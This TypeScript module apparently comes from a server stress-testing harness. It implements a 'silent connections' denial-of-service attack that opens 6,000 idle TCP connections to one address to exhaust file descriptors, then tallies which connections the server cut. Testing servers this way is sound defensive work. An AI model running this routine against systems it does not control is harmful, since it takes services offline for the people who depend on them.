import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, count, type Results } from '../target.ts'
import { rawConnection } from './raw.ts'

const MANY = 6_000
/** Between a hundred of them, ms. */
const PACE_MS = 20

/** More connections than an installation has descriptors for, and not a word on any of them. */
export const silent: Attack = {
  title: `silent connections: ${MANY.toLocaleString('en')} of one address`,
  async run(target, over) {
    const results: Results = {}
    const sockets: Socket[] = []
    while (sockets.length < MANY && !over.aborted) {
      sockets.push(rawConnection(target).resume())
      if (sockets.length % 100 === 0) await sleep(PACE_MS)
    }
    while (!over.aborted) await sleep(50)
    for (const socket of sockets) {
      count(results, socket.closed ? 'cut' : 'open')
      socket.destroy()
    }
    return results
  },
}
